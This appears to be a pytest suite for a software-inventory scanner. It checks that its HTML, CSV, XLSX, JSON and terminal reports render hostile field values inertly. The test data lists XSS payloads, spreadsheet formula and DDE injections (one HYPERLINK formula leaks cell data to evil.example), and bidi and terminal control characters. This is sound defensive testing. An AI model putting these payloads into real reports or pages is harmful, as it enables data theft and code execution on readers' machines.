"""Hostile strings in every field, rendered safely in every format.

Inventory strings come from machines we do not control (a DisplayName is whatever an installer
wrote), and the register and site names are typed by people.  Each format must keep them inert:
HTML escapes them (no element or attribute an attacker chose), CSV/XLSX neutralise formulas,
the table flattens control characters, JSON round-trips them exactly.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

import reports.csv
import reports.html
import reports.json
import reports.table
import reports.xlsx
from agents.inventory import Hardware, Host, Inventory, OsInfo
from reports.common import (
    FINDING_HEADERS,
    NOT_COSTED,
    _action_cost_cell,
    _extended_by_finding,
    _extended_cells,
    _host_finding_rows,
    _listed_finding,
    _SharedFindingCells,
    finding_rows,
    neutralise,
)
from scanner.judge.match import HostResult
from scanner.model import Finding, MatchDetail, Status
from scanner.plan.actions import Action
from scanner.plan.config import EntitlementPrice, ReportConfig
from scanner.plan.risk_register import Register, RiskException
from scanner.report.build import build_report
from scanner.report.model import EstateReport, FindingRow
from scanner.store.sqlite import HostStatus

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\rCR",
    "abc\u202eexe.txt",  # right-to-left override
    "😀 emoji ✓",
    "NUL\x00byte",
    "line\nbreak\x1b[31mred",
    "csi\x9b2Jclear\x7f",  # C1 CSI (JSON leaves it raw) and DEL
    "x" * 5000,
    "</style><style>body{display:none}</style>",
    "javascript:alert(3)",
]


def _estate() -> EstateReport:
    results: list[HostResult] = []
    for i, evil in enumerate(HOSTILE):
        host = Host(hostname=f"{evil}-{i}", machine_id=f"mid-{i}", site=f"Site {evil[:40]}", tags=[evil, "clinical"])
        inv = Inventory(
            host=host,
            os=OsInfo(family="windows", name=evil),
            hardware=Hardware(cpu_model=evil, vendor=evil, model=evil, tpm_present=True, tpm_version=evil),
            collected_at="2026-11-28T09:00:00Z",
        )
        detail = MatchDetail(rule=evil, reason=evil, evidence={evil: evil}, dataset_version=evil, release_label=evil)
        base = {"host_key": f"mid-{i}", "hostname": host.hostname, "site": host.site, "tags": host.tags}
        os_f = Finding(
            kind="os",
            name=evil,
            version=evil,
            product="windows",
            cycle="10-22h2",
            status=Status.EOL,
            eol=date(2025, 10, 14),
            extended_until=None,
            detail=detail,
            product_label=evil,
            **base,
        )
        app = Finding(
            kind="software",
            name=evil,
            version=evil,
            product=evil,
            cycle=evil,
            status=Status.EOL,
            eol=date(2024, 1, 1),
            extended_until=None,
            detail=detail,
            product_label=evil,
            **base,
        )
        # an application kept on a paid extended phase: its entitlement's texts come from the catalogue
        ext = Finding(
            kind="software",
            name=evil,
            version=evil,
            product=f"p{i}",
            cycle=evil,
            status=Status.EXTENDED,
            eol=date(2024, 1, 1),
            extended_until=date(2027, 1, 1),
            detail=detail,
            product_label=evil,
            **base,
        )
        results.append(HostResult(inventory=inv, findings=[os_f, app, ext]))
    prices = tuple(
        EntitlementPrice(
            keys=frozenset({f"p{i}"}),
            name=evil,
            cost=10.0,
            unit="device/year",
            yearly=10.0,
            per_device=i % 2 == 0,
            currency=evil[:8],
            reference=evil,
            source=evil,
        )
        for i, evil in enumerate(HOSTILE)
    )
    config = ReportConfig(entitlement_prices=prices, site_catalog=HOSTILE[1], site_catalog_sha256=HOSTILE[2])
    register = Register(
        path=HOSTILE[0],
        entries=[
            RiskException(
                id=f"EX-{j}",
                category="risk-accepted",
                justification=evil,
                owner=evil,
                approver=evil,
                approved_on=date(2026, 1, 1),
                expires=date(2027, 1, 1),
                product=HOSTILE[j],
                compensating_controls=(evil, evil),
                manufacturer_ref=evil,
                risk=evil,
                notes=evil,
            )
            for j, evil in enumerate(HOSTILE)
        ],
    )
    statuses = [
        HostStatus(target=evil, site=f"Site {evil[:40]}", status="unreachable", error=evil, at=evil, last_ok_at=evil)
        for evil in HOSTILE
    ]
    return build_report(
        results, statuses, date(2026, 11, 30), HOSTILE[2], HOSTILE[1], register=register, demo=HOSTILE[0], config=config
    )


@pytest.fixture(scope="module")
def report() -> EstateReport:
    return _estate()


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "header",
    "main",
    "footer",
    "h1",
    "h2",
    "h3",
    "p",
    "section",
    "figure",
    "figcaption",
    "svg",
    "rect",
    "text",
    "line",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "b",
    "a",
    "script",
    "nav",
    "ol",
    "ul",
    "li",
}
ALLOWED_ATTRS = {
    "charset",
    "http-equiv",
    "content",
    "name",
    "lang",
    "class",
    "id",
    "role",
    "aria-label",
    "xmlns",
    "viewbox",
    "width",
    "height",
    "preserveaspectratio",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "fill",
    "stroke",
    "text-anchor",
    "scope",
    "data-type",
    "data-v",
    "href",
    "type",
    "value",
}


def test_html_escapes_everything(report: EstateReport) -> None:
    page = reports.html.render(report)
    parser = _Elements()
    parser.feed(page)
    tags = [t for t, _ in parser.tags]
    assert set(tags) <= ALLOWED_TAGS, set(tags) - ALLOWED_TAGS
    assert tags.count("script") == 1 and tags.count("style") == 1 and "img" not in tags
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert name in ALLOWED_ATTRS, (tag, name)
            if name == "href":
                assert value is not None and re.fullmatch(r"#[a-z]+(-[0-9]+)?", value)  # in-page links only
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "onerror=alert" not in page.replace("onerror=alert(2)&gt;", "")  # only as escaped text
    assert "\u202e" not in page and "&lt;U+202E&gt;" in page  # bidi override shown, not obeyed
    assert "\x00" not in page and "\x1b" not in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert "<h2>Replace or pay for extended support</h2>" in page  # the catalogue's texts went through it


def test_csv_neutralises_formulas(report: EstateReport) -> None:
    rows = list(csv.reader(io.StringIO(reports.csv.render(report))))
    assert len(rows) > len(HOSTILE)
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c[:40]
        assert "\x00" not in c
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    extended = rows[0].index("extended support")
    assert any(row[extended].startswith("'=HYPERLINK") for row in rows[1:])


def test_xlsx_reads_back_inert(report: EstateReport) -> None:
    wb = load_workbook(io.BytesIO(reports.xlsx.render(report)))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value[:40]
                    assert "\x00" not in cell.value and "\x1b" not in cell.value
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in seen
    assert any(v.startswith("'+cmd|") for v in seen)
    assert "x" * 5000 in seen and "😀 emoji ✓" in seen
    assert wb["Extended support"].max_row > len(HOSTILE)  # entitlement names and references: inert too
    assert all(len(title) <= 31 and not set(title) & set("[]:*?/\\") for title in wb.sheetnames)


def test_json_round_trips_exactly(report: EstateReport) -> None:
    data = json.loads(reports.json.render(report))
    names = {f["name"] for s in data["sites"] for h in s["hosts"] for f in h["findings"]}
    assert set(HOSTILE) <= names
    assert {x["entitlement"] for x in data["extended_support"]} == set(HOSTILE)
    assert {x["reference"] for x in data["extended_support"]} == set(HOSTILE)
    assert data["evidence"]["site_catalog"] == {"file": HOSTILE[1], "sha256": HOSTILE[2]}
    assert data["demo"] == HOSTILE[0] and data["tool_version"] == HOSTILE[1]


def test_table_stays_one_line_per_row(report: EstateReport) -> None:
    text = reports.table.render(report)
    assert "\x00" not in text and "\x1b" not in text and "\u202e" not in text and "\r" not in text
    assert not any(line.startswith("break") for line in text.splitlines())  # "line\nbreak" stayed one line
    assert max(len(line) for line in text.splitlines()) < 1200


@pytest.mark.parametrize("with_statuses", [False, True])
def test_empty_estate_renders_in_every_format(with_statuses: bool) -> None:
    statuses = (
        [
            HostStatus(
                target="pc-1", site="North", status="unreachable", error="no route", at="2026-11-28", last_ok_at=""
            )
        ]
        if with_statuses
        else []
    )
    empty = build_report([], statuses, date(2026, 11, 30), "d", "t")
    assert "nothing to act on" in reports.table.render(empty) or not with_statuses
    assert reports.csv.render(empty).count("\r\n") == 1  # the header only
    assert json.loads(reports.json.render(empty))["kpis"]["devices"] == 0
    assert load_workbook(io.BytesIO(reports.xlsx.render(empty))).sheetnames[0] == "Summary"
    assert "No devices." in reports.html.render(empty)


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("fmt", ["csv", "json", "html", "table"])
def test_report_to_a_terminal_carries_no_control_character(
    report: EstateReport, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal every control a value carries is shown as an escape (JSON and CSV keep C1/ESC
    as data); the layout's newlines, tabs and CSV's CR LF pass.  A pipe gets the exact text."""
    from scanner.cli.common import output

    rendered = getattr(reports, fmt).render(report)
    assert ("\x9b" in rendered) == (fmt in ("csv", "json"))  # JSON and CSV carry the C1 as data
    tty, pipe = _Tty(), io.StringIO()
    for stream in (tty, pipe):
        monkeypatch.setattr("sys.stdout", stream)
        with output(None) as fh:
            fh.write(rendered)
    assert pipe.getvalue() == rendered
    shown = tty.getvalue()
    assert ("\\x9b" in shown) == (fmt in ("csv", "json"))  # shown as an escape, not sent
    assert shown.count("\r\n") == rendered.count("\r\n")
    unsafe = {ch for ch in shown.replace("\r\n", "\n") if ch not in "\n\t" and not ch.isprintable() and ch != " "}
    assert {ch for ch in unsafe if unicodedata.category(ch)[0] == "C"} == set()


# -- reports.common.finding_rows, piece by piece (the CSV's and the workbook's finding rows) -------


def _inert(value: object) -> bool:
    """Already neutralised: neutralising it again changes nothing, and it starts with no trigger."""
    return not isinstance(value, str) or (neutralise(value) == value and not value.startswith(tuple("=+-@\t\r")))


def test_finding_rows_are_the_devices_rows_and_every_cell_is_inert(report: EstateReport) -> None:
    shared = _SharedFindingCells(neutralise)
    pieced = [row for s in report.sites for h in s.hosts for row in _host_finding_rows(h, neutralise(s.site), shared)]
    assert pieced == list(finding_rows(report, neutralise))
    assert len(pieced) >= 3 * len(HOSTILE)  # OS, eol application, extended application per device
    assert {len(row) for row in pieced} == {len(FINDING_HEADERS)}
    assert all(_inert(v) for row in pieced for v in row)
    names = {row[FINDING_HEADERS.index("name")] for row in pieced}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names and "'@SUM(1+1)" in names
    assert "NUL\x00byte" in names  # neutralise defuses formulas; control characters are each writer's job
    unneutralised = list(finding_rows(report))
    assert {row[FINDING_HEADERS.index("name")] for row in unneutralised} >= set(HOSTILE)


def test_shared_cells_are_built_once_and_neutralised(report: EstateReport) -> None:
    shared = _SharedFindingCells(neutralise)
    r = next(r for h in report.all_hosts() for r in h.rows if r.finding.detail.rule.startswith("=HYPERLINK"))
    f = r.finding
    assert shared.release(f) is shared.release(f) and shared.score(r) is shared.score(r)
    assert shared.rule(f) is shared.rule(f)
    rule, evidence, dataset = shared.rule(f)
    assert rule == neutralise(f.detail.rule) and dataset == neutralise(f.detail.dataset_version)
    assert evidence == neutralise("; ".join(f"{k}={v}" for k, v in f.detail.evidence.items()))
    assert all(_inert(v) for v in shared.release(f) + shared.score(r) + shared.rule(f))
    assert shared.release(f)[0] == f.kind and shared.release(f)[1] == neutralise(f.name)


def test_extended_cells_put_the_yearly_figure_on_the_first_covered_finding_only(report: EstateReport) -> None:
    hosts = [h for h in report.all_hosts() if h.extended]
    assert hosts
    for h in hosts:
        priced = _extended_by_finding(h)
        for x in h.extended:
            first = _extended_cells(priced[id(x.finding)], x.finding, neutralise)
            assert first == [neutralise(f"{x.entitlement} ({x.basis}; {x.source})"), round(x.yearly, 2)]
            assert _inert(first[0])
            for other in x.covers:
                if other is not x.finding:
                    assert _extended_cells(priced[id(other)], other, neutralise)[1] is None
        uncovered = [r.finding for r in h.rows if id(r.finding) not in priced]
        assert all(_extended_cells(None, f, neutralise) == ["", None] for f in uncovered)


def test_which_findings_are_listed_and_the_action_cost_cell(report: EstateReport) -> None:
    rows = [r for h in report.all_hosts() for r in h.rows]
    assert all(_listed_finding(r) for r in rows if r.finding.kind == "os" or r.finding.actionable)
    quiet = FindingRow(replace(rows[1].finding, status=Status.SUPPORTED, kind="software"))
    assert not _listed_finding(quiet)
    assert _listed_finding(replace(quiet, exception=report.register[0].exception))
    h = report.all_hosts()[0]
    assert _action_cost_cell(replace(h, action=Action("none", "no action", "", None))) is None
    assert _action_cost_cell(replace(h, action=Action("replace-device", "=evil", "", None))) == NOT_COSTED
    assert _action_cost_cell(replace(h, action=Action("replace-device", "replace", "", 850.004))) == 850.0


def test_an_html_table_writes_each_column_by_its_kind() -> None:
    evil = '<script>alert(1)</script>"'
    table = reports.html._table(
        ["text", "num", "html", "<b>head</b>"],
        [[evil, 1234.5, "<b>ok</b>", evil], [None, None, "", "x", "wider than the headers"]],
        num_cols={1},
        html_cols={2},
        screen_only={1, 3},
    )
    assert "<script>" not in table and table.count("&lt;script&gt;") == 2 and "&lt;b&gt;head&lt;/b&gt;" in table
    assert '<td class="num np" data-v="1234.5">1,234.5</td>' in table  # screen-only number: sortable raw value
    assert '<td class="num np" data-v=""></td>' in table  # an empty number
    assert "<td><b>ok</b></td>" in table  # pre-rendered HTML as given
    assert "<td class=np>x</td>" in table and "<td>wider than the headers</td>" in table
    assert '<th scope="col" data-type=num class=np>num</th>' in table
    write = reports.html._cell_writer(html=False, num=False, screen_only=False)
    assert write(evil) == "<td>&lt;script&gt;alert(1)&lt;/script&gt;&quot;</td>" and write(None) == "<td></td>"
